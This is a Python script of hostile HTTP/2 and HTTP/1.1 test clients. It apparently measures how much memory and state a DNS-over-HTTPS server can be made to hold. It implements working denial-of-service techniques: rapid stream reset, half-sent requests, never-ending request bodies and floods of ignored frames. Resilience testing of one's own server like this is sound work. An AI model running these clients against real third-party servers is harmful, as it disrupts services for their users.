#!/usr/bin/env python3
"""Hostile HTTP/2 and HTTP/1.1 clients for measuring what a client can make `httpdns serve` hold.

Every mode opens its connections, does its harm, prints one JSON line saying what it did, then holds everything
open until stdin closes (or for --hold seconds), so a caller can read the server's memory and state meanwhile.

  bodies      N connections, each opening S `POST /dns-query` streams and sending as much body as the server's
              flow control allows (at most --body bytes per stream), never ending one.
  half-sent   N connections, each sending half an HTTP/1.1 request line (or, with --h2, an unfinished header
              block) and nothing more.
  reset       one connection opening and resetting streams (rapid reset); prints how many streams went out and
              how the connection ended.
  h1-bodies   N HTTP/1.1 connections, each a `POST /dns-query` with a chunked body sent as fast as the server
              reads it, in chunks of 16 KiB up to --body bytes (rounded up to a whole chunk), never ended.
  noise       N connections, each sending --body bytes in frames of an unknown type, which HTTP/2 ignores: what the
              connections cost with the same traffic and no request, for comparing with `bodies`.

Usage: hostile-h2.py MODE --port P [--host 127.0.0.1] [--cafile F] [--server-name N] [--connections N] ...
Needs python3's h2 (pip install h2).
"""
import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def connect(args, alpn):
    raw = socket.create_connection((args.host, args.port), timeout=10)
    if args.plain:
        return raw
    context = ssl.create_default_context(cafile=args.cafile)
    context.set_alpn_protocols([alpn])
    return context.wrap_socket(raw, server_hostname=args.server_name)


def h2_connection(sock):
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return conn


def pump(sock, conn, quiet_for=0.3, until=None):
    """Reads what the server sends until it is quiet for `quiet_for` seconds; returns the events, and whether
    the connection ended."""
    events, ended = [], False
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        if until is not None and until(events):
            break
        readable, _, _ = select.select([sock], [], [], quiet_for)
        if not readable:
            break
        try:
            data = sock.recv(65536)
        except (ssl.SSLError, OSError):
            ended = True
            break
        if not data:
            ended = True
            break
        try:
            events += conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            ended = True
            break
        out = conn.data_to_send()
        if out:
            try:
                sock.sendall(out)
            except OSError:
                ended = True
                break
    return events, ended


def post_headers(args):
    return [(":method", "POST"), (":scheme", "https"), (":authority", args.server_name), (":path", "/dns-query"),
            ("content-type", "application/dns-message")]


def bodies(args):
    conns = []
    for _ in range(args.connections):
        sock = connect(args, "h2")
        conn = h2_connection(sock)
        for index in range(args.streams):
            conn.send_headers(1 + 2 * index, post_headers(args))
        sock.sendall(conn.data_to_send())
        sock.setblocking(False)
        conns.append((sock, conn, {"sent": {}, "reset": 0, "ended": False}))
    # Rounds over every connection at once: read what the server sent, then send body wherever there is credit,
    # never ending a stream, until a round moves nothing.
    total = 0
    for _ in range(args.rounds):
        progressed = False
        readable, _, _ = select.select([c[0] for c in conns if not c[2]["ended"]], [], [], 0.2)
        for sock, conn, state in conns:
            if state["ended"]:
                continue
            if sock in readable:
                data = b""
                while True:  # every TLS record that has come, not only the first
                    try:
                        chunk = sock.recv(1 << 20)
                    except (ssl.SSLWantReadError, BlockingIOError):
                        break
                    except OSError:
                        chunk = b""
                    if not chunk:
                        state["ended"] = not data
                        break
                    data += chunk
                if state["ended"]:
                    continue
                if data:
                    try:
                        events = conn.receive_data(data)
                    except h2.exceptions.ProtocolError:
                        state["ended"] = True
                        continue
                    state["reset"] += sum(1 for e in events if isinstance(e, h2.events.StreamReset))
                    progressed = progressed or any(isinstance(e, h2.events.WindowUpdated) for e in events)
            for index in range(args.streams):
                stream = 1 + 2 * index
                try:
                    room = min(conn.local_flow_control_window(stream), conn.max_outbound_frame_size,
                               args.body - state["sent"].get(stream, 0))
                    if room <= 0:
                        continue
                    conn.send_data(stream, b"\0" * room)
                except (KeyError, h2.exceptions.ProtocolError):
                    continue
                state["sent"][stream] = state["sent"].get(stream, 0) + room
                total += room
                progressed = True
            out = conn.data_to_send()
            if out:
                sock.setblocking(True)
                try:
                    sock.sendall(out)
                except OSError:
                    state["ended"] = True
                sock.setblocking(False)
        if not progressed:
            break
    report({"mode": "bodies", "connections": sum(1 for c in conns if not c[2]["ended"]), "bodyBytesSent": total,
            "streamsReset": sum(c[2]["reset"] for c in conns)})
    hold(args, [(c[0], c[1]) for c in conns])


def h1_bodies(args):
    head = ("POST /dns-query HTTP/1.1\r\nHost: %s\r\nContent-Type: application/dns-message\r\n"
            "Transfer-Encoding: chunked\r\n\r\n" % args.server_name).encode()
    chunk = b"4000\r\n" + b"\0" * 0x4000 + b"\r\n"
    conns = []
    for _ in range(args.connections):
        sock = connect(args, "http/1.1")
        sock.sendall(head)
        sock.setblocking(False)
        # What is left of the chunk being sent, body bytes sent, the response's first line, whether it ended.
        conns.append({"sock": sock, "pending": b"", "sent": 0, "status": None, "ended": False})

    def sending(state):
        return not state["ended"] and (state["sent"] < args.body or state["pending"])

    def read_response(state):
        while True:  # everything that has come, so the socket stops being readable
            try:
                data = state["sock"].recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                return
            except OSError:
                data = b""
            if not data:
                state["ended"] = True
                return
            if state["status"] is None:
                state["status"] = data.split(b"\r\n", 1)[0].decode(errors="replace")

    def send_body(state):
        moved = False
        while sending(state):
            if not state["pending"]:
                state["pending"] = chunk
            try:
                written = state["sock"].send(state["pending"])
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                break
            except OSError:
                state["ended"] = True
                break
            if written == len(state["pending"]):
                state["sent"] += 0x4000
            state["pending"] = state["pending"][written:]
            moved = moved or written > 0
        return moved

    # Send wherever a socket takes more, until every body is sent, or the server has taken nothing for 5 s, or 120 s
    # have passed.
    deadline = time.monotonic() + 120
    last_progress = time.monotonic()
    while time.monotonic() < deadline and time.monotonic() - last_progress < 5:
        unfinished = [c for c in conns if sending(c)]
        if not unfinished:
            break
        by_socket = {c["sock"]: c for c in conns if not c["ended"]}
        readable, writable, _ = select.select(list(by_socket), [c["sock"] for c in unfinished], [], 0.5)
        for sock in readable:
            read_response(by_socket[sock])
        for sock in writable:
            if send_body(by_socket[sock]):
                last_progress = time.monotonic()
    statuses = {}
    for state in conns:
        key = state["status"] or "none"
        statuses[key] = statuses.get(key, 0) + 1
    report({"mode": "h1-bodies", "connections": sum(1 for c in conns if not c["ended"]),
            "bodyBytesSent": sum(c["sent"] for c in conns), "responses": statuses})
    hold(args, [(c["sock"], None) for c in conns])


def noise(args):
    socks = []
    for _ in range(args.connections):
        sock = connect(args, "h2")
        conn = h2_connection(sock)
        left = args.body
        while left > 0:
            size = min(left, 16384)
            sock.sendall(struct.pack(">I", size)[1:] + bytes([0xAA, 0]) + struct.pack(">I", 1) + b"\0" * size)
            left -= size
        socks.append((sock, conn))
    report({"mode": "noise", "connections": len(socks), "bytesSent": args.body * len(socks)})
    hold(args, socks)


def half_sent(args):
    socks = []
    for _ in range(args.connections):
        try:
            sock = connect(args, "h2" if args.h2 else "http/1.1")
        except OSError as error:
            report({"mode": "half-sent", "connections": len(socks), "error": str(error)})
            break
        if args.h2:
            conn = h2_connection(sock)
            # HEADERS without END_HEADERS: a header block that never ends.
            sock.sendall(b"\x00\x00\x01\x01\x00\x00\x00\x00\x01" + b"\x82")
            socks.append((sock, conn))
        else:
            sock.sendall(b"GET /d?host=exam")
            socks.append((sock, None))
    else:
        report({"mode": "half-sent", "connections": len(socks)})
    hold(args, socks)


def reset(args):
    sock = connect(args, "h2")
    conn = h2_connection(sock)
    pump(sock, conn, quiet_for=0.05)
    opened, ended, code = 0, False, None
    headers = [(":method", "GET"), (":scheme", "https"), (":authority", args.server_name),
               (":path", args.path)]
    for index in range(args.streams):
        stream = 1 + 2 * index
        try:
            conn.send_headers(stream, headers, end_stream=True)
            conn.reset_stream(stream)
        except h2.exceptions.ProtocolError:
            break
        opened += 1
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            ended = True
            break
        if index % 50 == 49:
            events, ended = pump(sock, conn, quiet_for=0.01)
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    ended, code = True, int(event.error_code)
            if ended:
                break
    if not ended:
        events, ended = pump(sock, conn, quiet_for=1)
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                ended, code = True, int(event.error_code)
    report({"mode": "reset", "streamsOpened": opened, "connectionEnded": ended, "goAwayCode": code})
    hold(args, [(sock, conn)])


REPORT_TO_STDERR = False


def report(value):
    print(json.dumps(value), file=sys.stderr if REPORT_TO_STDERR else sys.stdout, flush=True)


def hold(args, socks):
    if args.hold is not None:
        time.sleep(args.hold)
    else:
        sys.stdin.read()
    for sock, _ in socks:
        try:
            sock.close()
        except OSError:
            pass


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("mode", choices=["bodies", "h1-bodies", "half-sent", "reset", "noise"])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--cafile")
    parser.add_argument("--server-name", default="localhost")
    parser.add_argument("--plain", action="store_true", help="no TLS (half-sent and h1-bodies)")
    parser.add_argument("--h2", action="store_true", help="half-sent: an unfinished HTTP/2 header block")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--streams", type=int, default=100)
    parser.add_argument("--body", type=int, default=65536)
    parser.add_argument("--rounds", type=int, default=64, help="bodies: rounds of sending over every connection")
    parser.add_argument("--path", default="/healthz")
    parser.add_argument("--hold", type=float, help="seconds to hold the connections (default: until stdin closes)")
    parser.add_argument("--report-stderr", action="store_true", help="print the report on stderr, not stdout")
    args = parser.parse_args()
    global REPORT_TO_STDERR
    REPORT_TO_STDERR = args.report_stderr
    {"bodies": bodies, "h1-bodies": h1_bodies, "half-sent": half_sent, "reset": reset, "noise": noise}[args.mode](args)


if __name__ == "__main__":
    main()
